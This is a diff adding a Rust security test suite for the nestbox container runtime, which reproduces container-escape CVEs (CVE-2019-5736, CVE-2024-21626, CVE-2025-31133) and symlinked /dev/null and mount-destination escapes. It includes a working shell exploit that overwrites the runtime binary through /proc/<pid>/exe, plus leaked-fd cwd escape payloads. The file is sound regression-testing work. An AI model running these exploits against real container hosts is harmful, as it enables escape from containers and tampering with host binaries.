@@ -1,0 +1,661 @@
+//! Reproductions of the container-escape bugs every runtime must carry fixes for, run against
+//! `nestbox` and, where runc 1.1.5 is also expected to resist, against `runc`:
+//!
+//! - CVE-2019-5736: overwriting the runtime's binary through `/proc/<pid>/exe` during `exec`.
+//! - CVE-2024-21626: a process cwd reached through a leaked host fd (`/proc/self/fd/N`).
+//!   runc 1.1.5 is vulnerable to this one, so these cases run against nestbox only.
+//! - A rootfs whose `/dev/null` is a symlink out of the rootfs (and CVE-2025-31133's "mask
+//!   with something that is not /dev/null").
+//! - A mount destination that is a symlink out of the rootfs.
+//!
+//! Run after `cargo build --release -p nestbox-runtime`:
+//! `cargo test --release -p nestbox-tests --test runtime_security -- --test-threads=2`
+
+use std::fs::File;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::{symlink, MetadataExt};
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use nestbox_tests::{bin, require_cmd, require_root, unique, wait_until, Bundle, TempDir};
+use serde_json::{json, Value};
+
+/// One runtime binary with its own state root.
+struct Runtime {
+    name: &'static str,
+    bin: PathBuf,
+    root: TempDir,
+    env: Vec<(&'static str, &'static str)>,
+}
+
+impl Runtime {
+    fn nestbox() -> Runtime {
+        require_root();
+        Runtime {
+            name: "nestbox",
+            bin: bin("nestbox"),
+            root: TempDir::new("sec-nb"),
+            env: Vec::new(),
+        }
+    }
+
+    fn runc() -> Runtime {
+        require_root();
+        Runtime {
+            name: "runc",
+            bin: require_cmd("runc"),
+            root: TempDir::new("sec-runc"),
+            env: Vec::new(),
+        }
+    }
+
+    fn cmd(&self, args: &[&str]) -> Command {
+        let mut c = Command::new(&self.bin);
+        c.envs(self.env.iter().copied());
+        c.arg("--root").arg(self.root.path()).args(args);
+        c
+    }
+
+    /// Run with stdio on files (a container process may inherit them): (code, stdout, stderr).
+    fn out_cmd(&self, mut cmd: Command) -> (i32, String, String) {
+        let tag = unique("o");
+        let out_path = self.root.path().join(format!("{tag}.out"));
+        let err_path = self.root.path().join(format!("{tag}.err"));
+        let status = cmd
+            .stdin(Stdio::null())
+            .stdout(File::create(&out_path).expect("stdout file"))
+            .stderr(File::create(&err_path).expect("stderr file"))
+            .status()
+            .expect("spawn runtime");
+        (
+            status.code().unwrap_or(-1),
+            std::fs::read_to_string(&out_path).unwrap_or_default(),
+            std::fs::read_to_string(&err_path).unwrap_or_default(),
+        )
+    }
+
+    fn out(&self, args: &[&str]) -> (i32, String, String) {
+        self.out_cmd(self.cmd(args))
+    }
+
+    fn run(&self, bundle: &Bundle) -> (i32, String, String) {
+        let id = unique("sr");
+        let b = bundle.path().to_str().expect("utf-8 path");
+        self.out(&["run", "--bundle", b, &id])
+    }
+
+    /// create + start a container whose process keeps running.
+    fn start(&self, bundle: &Bundle) -> String {
+        let id = unique("sc");
+        let b = bundle.path().to_str().expect("utf-8 path");
+        let (code, _, err) = self.out(&["create", "--bundle", b, &id]);
+        assert_eq!(code, 0, "{}: create: {err}", self.name);
+        let (code, _, err) = self.out(&["start", &id]);
+        assert_eq!(code, 0, "{}: start: {err}", self.name);
+        id
+    }
+
+    fn state(&self, id: &str) -> Option<Value> {
+        let (code, out, _) = self.out(&["state", id]);
+        (code == 0).then(|| serde_json::from_str(&out).expect("state is JSON"))
+    }
+
+    fn pids(&self, id: &str) -> Vec<i32> {
+        let (code, out, err) = self.out(&["ps", "--format", "json", id]);
+        assert_eq!(code, 0, "{}: ps: {err}", self.name);
+        serde_json::from_str(&out).expect("ps json")
+    }
+
+    fn list_ids(&self) -> Vec<String> {
+        let (_, out, _) = self.out(&["list", "--format", "json"]);
+        match serde_json::from_str::<Value>(&out) {
+            Ok(Value::Array(list)) => list
+                .iter()
+                .filter_map(|c| c["id"].as_str().map(str::to_owned))
+                .collect(),
+            _ => Vec::new(),
+        }
+    }
+}
+
+impl Drop for Runtime {
+    fn drop(&mut self) {
+        // Leave no container behind, even when an assertion failed.
+        for id in self.list_ids() {
+            let _ = self.out(&["delete", "--force", &id]);
+        }
+    }
+}
+
+fn sha256(path: &Path) -> String {
+    let out = Command::new("sha256sum")
+        .arg(path)
+        .output()
+        .expect("sha256sum");
+    assert!(out.status.success(), "sha256sum {}", path.display());
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .to_string()
+}
+
+// ---------------------------------------------------------------------------------------------
+// CVE-2019-5736
+// ---------------------------------------------------------------------------------------------
+
+/// The container's init. The runtime's helper that becomes the exec'd process runs inside
+/// the container (its pid namespace, its mount namespace) before it execs the command, and
+/// looks up the user in the container's /etc/passwd: we make that a fifo, so the helper blocks
+/// there while its `/proc/<pid>/exe` still is the runtime's binary. Then: open that exe, try to
+/// write it while it runs, let the helper go on (feed the fifo) until it has exec'd the
+/// command, and try to write the binary again through the still-open fd: the step that
+/// overwrote the host's runc in 2019. Every outcome goes to /result.
+const ATTACK: &str = r#"
+mv /etc/passwd /etc/passwd.real
+mkfifo /etc/passwd
+: > /result
+: > /armed
+while :; do
+    for d in /proc/[0-9]*; do
+        e=$(readlink "$d/exe" 2>/dev/null) || continue
+        case "$e" in ""|/bin/busybox) continue;; esac
+        pid=${d#/proc/}
+        break 2
+    done
+    usleep 10000
+done
+echo "found=$pid" >> /result
+echo "exe=$e" >> /result
+feed() { cat /etc/passwd.real > /etc/passwd; }
+attack() {
+    echo open=ok
+    if { echo pwned >> /proc/$pid/exe; } 2>/dev/null; then
+        echo running-write=ok
+    else
+        echo running-write=failed
+    fi
+    feed
+    while e=$(readlink /proc/$pid/exe 2>/dev/null) && [ "$e" != /bin/busybox ]; do
+        usleep 10000
+    done
+    echo exited
+    # Like the 2019 exploit: retry while the binary is busy (the runtime's CLI may still run
+    # it), a few seconds at most.
+    i=0
+    while [ $i -lt 200 ]; do
+        if { echo pwned >> /proc/self/fd/3; } 2>/tmp/write.err; then echo write=ok; return; fi
+        i=$((i + 1))
+        usleep 20000
+    done
+    cat /tmp/write.err
+    echo write=failed
+}
+attack 3< /proc/$pid/exe >> /result 2>&1 || { echo open=failed >> /result; feed; }
+rm /etc/passwd
+mv /etc/passwd.real /etc/passwd
+echo done >> /result
+sleep 1000
+"#;
+
+struct Attack {
+    result: String,
+    sha_before: String,
+    sha_after: String,
+    exec: (i32, String, String),
+}
+
+/// Run the CVE-2019-5736 attack against a private copy of the runtime's binary (so a
+/// successful attack harms nothing else) with `env` on the runtime's command lines.
+fn overwrite_through_proc_exe(rt: Runtime, env: Vec<(&'static str, &'static str)>) -> Attack {
+    let copy_dir = TempDir::new("sec-bin");
+    // Declared after copy_dir: dropped (containers deleted) while the binary still exists.
+    let mut rt = rt;
+    let copy = copy_dir.path().join(rt.name);
+    std::fs::copy(&rt.bin, &copy).expect("copy the runtime binary");
+    rt.bin = copy.clone();
+    rt.env = env;
+    let sha_before = sha256(&copy);
+
+    let mut b = Bundle::new();
+    b.config["root"]["readonly"] = json!(false);
+    // A privileged-style container: CAP_SYS_PTRACE lets it open /proc/<pid>/exe of a
+    // process with more capabilities than its own (the runtime's helper, before it drops
+    // them). The fix must hold for such containers too.
+    let caps = json!([
+        "CAP_AUDIT_WRITE",
+        "CAP_KILL",
+        "CAP_NET_BIND_SERVICE",
+        "CAP_SYS_PTRACE",
+        "CAP_DAC_OVERRIDE"
+    ]);
+    for set in ["bounding", "effective", "permitted", "ambient"] {
+        b.config["process"]["capabilities"][set] = caps.clone();
+    }
+    b.set_args(&["sh", "/attack.sh"]);
+    b.write();
+    std::fs::write(b.rootfs().join("attack.sh"), ATTACK).expect("attack.sh");
+    let id = rt.start(&b);
+    assert!(
+        wait_until(30, || b.rootfs().join("armed").exists()),
+        "{}: the attack script did not start",
+        rt.name
+    );
+
+    let exec = rt.out(&["exec", &id, "sh", "-c", "echo exec-ran"]);
+    let result_path = b.rootfs().join("result");
+    let finished = wait_until(60, || {
+        std::fs::read_to_string(&result_path).is_ok_and(|r| r.lines().any(|l| l == "done"))
+    });
+    let result = std::fs::read_to_string(&result_path).unwrap_or_default();
+    assert!(
+        finished,
+        "{}: the attack did not finish; result so far: {result:?}; exec: {exec:?}",
+        rt.name,
+    );
+    let sha_after = sha256(&copy);
+    assert_eq!(rt.out(&["delete", "--force", &id]).0, 0, "{}", rt.name);
+    Attack {
+        result,
+        sha_before,
+        sha_after,
+        exec,
+    }
+}
+
+fn assert_attack_failed(name: &str, a: &Attack) {
+    let lines: Vec<&str> = a.result.lines().collect();
+    // The attack really ran: it found the runtime's helper and tried what it could.
+    assert!(
+        lines.iter().any(|l| l.starts_with("found=")),
+        "{name}: {:?}",
+        a.result
+    );
+    assert!(
+        !lines.iter().any(|l| l.ends_with("write=ok")),
+        "{name}: a write succeeded: {:?}",
+        a.result
+    );
+    assert_eq!(a.sha_after, a.sha_before, "{name}: the host binary changed");
+    // The exec itself went through once the fifo was fed.
+    assert_eq!(
+        (a.exec.0, a.exec.1.as_str()),
+        (0, "exec-ran\n"),
+        "{name}: {:?}",
+        a.exec
+    );
+}
+
+#[test]
+fn cve_2019_5736_exec_cannot_overwrite_the_runtime_binary() {
+    for rt in [Runtime::runc(), Runtime::nestbox()] {
+        let name = rt.name;
+        let a = overwrite_through_proc_exe(rt, Vec::new());
+        assert_attack_failed(name, &a);
+        if name == "nestbox" {
+            // nestbox's helper is dumpable, so the container did open its exe: a sealed
+            // in-memory copy, and both writes were really attempted and failed.
+            let lines: Vec<&str> = a.result.lines().collect();
+            for want in ["open=ok", "running-write=failed", "exited", "write=failed"] {
+                assert!(lines.contains(&want), "lacks {want}: {:?}", a.result);
+            }
+            assert!(
+                lines.iter().any(|l| l.starts_with("exe=/memfd:")),
+                "the container reached a binary that is not a memfd: {:?}",
+                a.result
+            );
+        }
+    }
+}
+
+/// The same attack against nestbox with the sealed re-exec skipped (the marker it sets in
+/// its own environment after re-executing): the write must then succeed and change the
+/// binary. This proves the reproduction above really exercises the attack.
+#[test]
+fn cve_2019_5736_repro_overwrites_an_unsealed_runtime() {
+    let a = overwrite_through_proc_exe(Runtime::nestbox(), vec![("_NESTBOX_SEALED_EXE", "1")]);
+    let lines: Vec<&str> = a.result.lines().collect();
+    assert!(lines.contains(&"write=ok"), "{:?}", a.result);
+    assert_ne!(
+        a.sha_after, a.sha_before,
+        "the unsealed binary should have been overwritten: {:?}",
+        a.result
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// CVE-2024-21626 (nestbox only: runc 1.1.5 is vulnerable)
+// ---------------------------------------------------------------------------------------------
+
+/// A host directory the caller leaks to the runtime as fd 7 (not close-on-exec).
+struct LeakedDir {
+    dir: TempDir,
+    file: File,
+}
+
+impl LeakedDir {
+    fn new() -> LeakedDir {
+        let dir = TempDir::new("sec-leak");
+        std::fs::write(dir.path().join("secret"), "host secret\n").expect("secret");
+        let file = File::open(dir.path()).expect("open the host dir");
+        LeakedDir { dir, file }
+    }
+
+    fn leak_into(&self, cmd: &mut Command) {
+        let fd = self.file.as_raw_fd();
+        // SAFETY: only dup2 (async-signal-safe) between fork and exec; dup2 clears CLOEXEC.
+        unsafe {
+            cmd.pre_exec(move || {
+                if libc::dup2(fd, 7) < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                Ok(())
+            });
+        }
+    }
+
+    /// The host dir still holds only `secret`, and nothing above it was written either.
+    fn assert_untouched(&self) {
+        let names: Vec<String> = std::fs::read_dir(self.dir.path())
+            .expect("read the host dir")
+            .filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned()))
+            .collect();
+        assert_eq!(names, vec!["secret".to_string()], "host dir changed");
+        let parent = self.dir.path().parent().expect("parent");
+        assert!(
+            !parent.join("escaped").exists(),
+            "file written above the host dir"
+        );
+    }
+}
+
+const ESCAPE: &str = "pwd; cat secret; touch escaped ../escaped; echo escaped";
+
+#[test]
+fn cve_2024_21626_exec_cwd_through_a_leaked_fd_is_refused() {
+    let rt = Runtime::nestbox();
+    let mut b = Bundle::new();
+    b.set_args(&["sleep", "100"]);
+    b.write();
+    let id = rt.start(&b);
+    let init_pids = rt.pids(&id);
+    let leak = LeakedDir::new();
+    for cwd in ["/proc/self/fd/7", "/proc/self/fd/7/.."] {
+        let mut cmd = rt.cmd(&["exec", "--cwd", cwd, &id, "sh", "-c", ESCAPE]);
+        leak.leak_into(&mut cmd);
+        let (code, out, err) = rt.out_cmd(cmd);
+        assert_eq!(code, 1, "exec --cwd {cwd}: stdout {out:?} stderr {err:?}");
+        assert!(!out.contains("escaped"), "{out}");
+        assert!(
+            err.contains("outside the container root") && err.contains("/proc/self/fd/7"),
+            "unclear error for --cwd {cwd}: {err:?}"
+        );
+        leak.assert_untouched();
+        // Nothing left behind: the container runs on with only its own process.
+        assert_eq!(rt.pids(&id), init_pids, "exec --cwd {cwd} left a process");
+        assert_eq!(
+            rt.state(&id).map(|s| s["status"].clone()),
+            Some(json!("running"))
+        );
+    }
+    // The same fd without the cwd trick is simply not visible in the container.
+    let mut cmd = rt.cmd(&["exec", &id, "sh", "-c", "ls /proc/self/fd | tr '\\n' ' '"]);
+    leak.leak_into(&mut cmd);
+    let (code, out, err) = rt.out_cmd(cmd);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out.trim(), "0 1 2 3", "a leaked fd reached the container");
+}
+
+#[test]
+fn cve_2024_21626_process_cwd_through_a_leaked_fd_is_refused() {
+    let rt = Runtime::nestbox();
+    let leak = LeakedDir::new();
+    for cwd in ["/proc/self/fd/7", "/proc/self/fd/7/../.."] {
+        let mut b = Bundle::new();
+        b.set_args(&["sh", "-c", ESCAPE]);
+        b.config["process"]["cwd"] = json!(cwd);
+        b.write();
+        let id = unique("cw");
+        let mut cmd = rt.cmd(&["run", "--bundle", b.path().to_str().expect("utf-8"), &id]);
+        leak.leak_into(&mut cmd);
+        let (code, out, err) = rt.out_cmd(cmd);
+        assert_eq!(code, 1, "cwd {cwd}: stdout {out:?} stderr {err:?}");
+        assert!(!out.contains("escaped"), "{out}");
+        assert!(
+            err.contains("outside the container root") && err.contains("/proc/self/fd/7"),
+            "unclear error for cwd {cwd}: {err:?}"
+        );
+        leak.assert_untouched();
+        assert!(rt.list_ids().is_empty(), "a container was left behind");
+        assert!(
+            !rt.root.path().join(&id).exists(),
+            "state dir of {id} left behind"
+        );
+        let found = Command::new("find")
+            .args(["/sys/fs/cgroup", "-mindepth", "2", "-maxdepth", "7"])
+            .args(["-type", "d", "-name", &id])
+            .output()
+            .expect("find");
+        assert!(
+            found.stdout.is_empty(),
+            "cgroup left behind: {}",
+            String::from_utf8_lossy(&found.stdout)
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// /dev/null symlinked out of the rootfs
+// ---------------------------------------------------------------------------------------------
+
+/// A host file that must never change: content, inode and type.
+struct Victim {
+    _dir: TempDir,
+    path: PathBuf,
+    ino: u64,
+}
+
+impl Victim {
+    fn new() -> Victim {
+        let dir = TempDir::new("sec-victim");
+        let path = dir.path().join("victim");
+        std::fs::write(&path, "precious host data\n").expect("victim");
+        let ino = std::fs::symlink_metadata(&path).expect("stat").ino();
+        Victim {
+            _dir: dir,
+            path,
+            ino,
+        }
+    }
+
+    fn assert_untouched(&self, who: &str) {
+        let meta = std::fs::symlink_metadata(&self.path).expect("victim still exists");
+        assert!(
+            meta.file_type().is_file(),
+            "{who}: victim is no longer a file"
+        );
+        assert_eq!(meta.ino(), self.ino, "{who}: victim replaced");
+        assert_eq!(
+            std::fs::read_to_string(&self.path).expect("read victim"),
+            "precious host data\n",
+            "{who}: victim changed"
+        );
+    }
+}
+
+/// A bundle without the /dev tmpfs (the rootfs's own /dev is used) whose /dev/null is `link`.
+fn bundle_with_dev_null(link: &Path, args: &[&str]) -> Bundle {
+    let mut b = Bundle::new();
+    b.config["root"]["readonly"] = json!(false);
+    let mounts: Vec<Value> = b.config["mounts"]
+        .as_array()
+        .expect("mounts")
+        .iter()
+        .filter(|m| m["destination"] != "/dev")
+        .cloned()
+        .collect();
+    b.config["mounts"] = json!(mounts);
+    b.set_args(args);
+    b.write();
+    let null = b.rootfs().join("dev/null");
+    let _ = std::fs::remove_file(&null);
+    symlink(link, &null).expect("dev/null symlink");
+    b
+}
+
+const CHECK_NULL: &[&str] = &[
+    "sh",
+    "-c",
+    "echo discarded > /dev/null && stat -L -c '%F %t:%T' /dev/null && stat -c %t:%T /proc/timer_list",
+];
+
+#[test]
+fn dev_null_symlinked_to_a_host_file_never_touches_it() {
+    let victim = Victim::new();
+    let relative = PathBuf::from("../../../../../../../../..")
+        .join(victim.path.strip_prefix("/").expect("absolute victim path"));
+    let mut outcomes = Vec::new();
+    for rt in [Runtime::runc(), Runtime::nestbox()] {
+        for link in [victim.path.clone(), relative.clone()] {
+            let b = bundle_with_dev_null(&link, CHECK_NULL);
+            let (code, out, err) = rt.run(&b);
+            victim.assert_untouched(rt.name);
+            // Inside, /dev/null is the null device (runc creates it at the link's target
+            // inside the rootfs; nestbox replaces the link), and /proc/timer_list is masked by it.
+            assert_eq!(
+                (code, out.as_str()),
+                (0, "character special file 1:3\n1:3\n"),
+                "{} with /dev/null -> {}: {err}",
+                rt.name,
+                link.display()
+            );
+            outcomes.push((code, out));
+        }
+    }
+    assert!(outcomes.windows(2).all(|w| w[0] == w[1]), "{outcomes:?}");
+}
+
+/// nestbox only: runc 1.1.5 leaves the link and masks with whatever it points to.
+#[test]
+fn dev_null_symlinked_into_the_rootfs_does_not_clobber_the_target() {
+    let rt = Runtime::nestbox();
+    let b = bundle_with_dev_null(
+        Path::new("/etc/hostname"),
+        &[
+            "sh",
+            "-c",
+            "stat -c '%F %t:%T' /dev/null; cat /etc/hostname; stat -c %t:%T /proc/timer_list",
+        ],
+    );
+    let (code, out, err) = rt.run(&b);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out, "character special file 1:3\nbusybox\n1:3\n");
+    assert_eq!(
+        std::fs::read_to_string(b.rootfs().join("etc/hostname")).expect("hostname"),
+        "busybox\n"
+    );
+}
+
+/// nestbox only (CVE-2025-31133; runc 1.1.5 would bind the regular file over the masked
+/// paths): /dev bind mounted from a directory whose `null` is not the null device.
+#[test]
+fn masking_with_a_fake_dev_null_is_refused() {
+    let rt = Runtime::nestbox();
+    let mut b = Bundle::new();
+    let dev = b.path().join("devdir");
+    std::fs::create_dir(&dev).expect("devdir");
+    std::fs::write(dev.join("null"), "not a device\n").expect("fake null");
+    let mounts: Vec<Value> = b.config["mounts"]
+        .as_array()
+        .expect("mounts")
+        .iter()
+        .map(|m| match m["destination"] == "/dev" {
+            true => json!({"destination": "/dev", "type": "bind", "source": "devdir",
+                           "options": ["rbind"]}),
+            false => m.clone(),
+        })
+        .filter(|m| m["destination"] == "/dev" || m["destination"] == "/proc")
+        .collect();
+    b.config["mounts"] = json!(mounts);
+    b.set_args(&["cat", "/proc/timer_list"]);
+    b.write();
+    let (code, out, err) = rt.run(&b);
+    assert_eq!(code, 1, "stdout {out:?}");
+    assert!(err.contains("/dev/null is not the null device"), "{err:?}");
+    assert!(rt.list_ids().is_empty());
+    assert_eq!(
+        std::fs::read_to_string(dev.join("null")).expect("fake null"),
+        "not a device\n"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Mount destinations symlinked out of the rootfs
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn mount_destination_symlinked_out_of_the_rootfs_stays_inside() {
+    let host_dir = TempDir::new("sec-hostdir");
+    let relative = PathBuf::from("../../../../../../../../..").join(
+        host_dir
+            .path()
+            .strip_prefix("/")
+            .expect("absolute host dir"),
+    );
+    let mut outcomes = Vec::new();
+    for rt in [Runtime::runc(), Runtime::nestbox()] {
+        let mut b = Bundle::new();
+        let src = b.path().join("src");
+        std::fs::create_dir(&src).expect("src");
+        std::fs::write(src.join("marker"), "inside\n").expect("marker");
+        let _ = std::fs::remove_dir_all(b.rootfs().join("mnt"));
+        symlink(host_dir.path(), b.rootfs().join("mnt")).expect("mnt link");
+        symlink(&relative, b.rootfs().join("mnt2")).expect("mnt2 link");
+        let mounts = b.config["mounts"].as_array_mut().expect("mounts");
+        mounts.push(
+            json!({"destination": "/mnt/sub", "type": "bind", "source": "src",
+                           "options": ["rbind", "ro"]}),
+        );
+        mounts.push(
+            json!({"destination": "/mnt2/tmpfs", "type": "tmpfs", "source": "tmpfs",
+                           "options": ["size=64k"]}),
+        );
+        b.set_args(&[
+            "sh",
+            "-c",
+            "cat /mnt/sub/marker; grep -q \" $(readlink -f /mnt2)/tmpfs \" /proc/self/mountinfo && echo tmpfs-inside",
+        ]);
+        b.write();
+        let (code, out, err) = rt.run(&b);
+        // The host directory got no mount point created in it and no mount on it.
+        let entries: Vec<_> = std::fs::read_dir(host_dir.path())
+            .expect("read host dir")
+            .collect();
+        assert!(
+            entries.is_empty(),
+            "{}: host dir written: {entries:?}",
+            rt.name
+        );
+        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
+        assert!(
+            !mountinfo.contains(&host_dir.path().display().to_string()),
+            "{}: mount on the host dir",
+            rt.name
+        );
+        // Inside, the mounts landed where the links resolve within the rootfs.
+        assert_eq!(
+            (code, out.as_str()),
+            (0, "inside\ntmpfs-inside\n"),
+            "{}: {err}",
+            rt.name
+        );
+        assert!(b
+            .rootfs()
+            .join(host_dir.path().strip_prefix("/").unwrap())
+            .join("sub")
+            .is_dir());
+        outcomes.push((code, out));
+    }
+    assert_eq!(outcomes[0], outcomes[1]);
+}
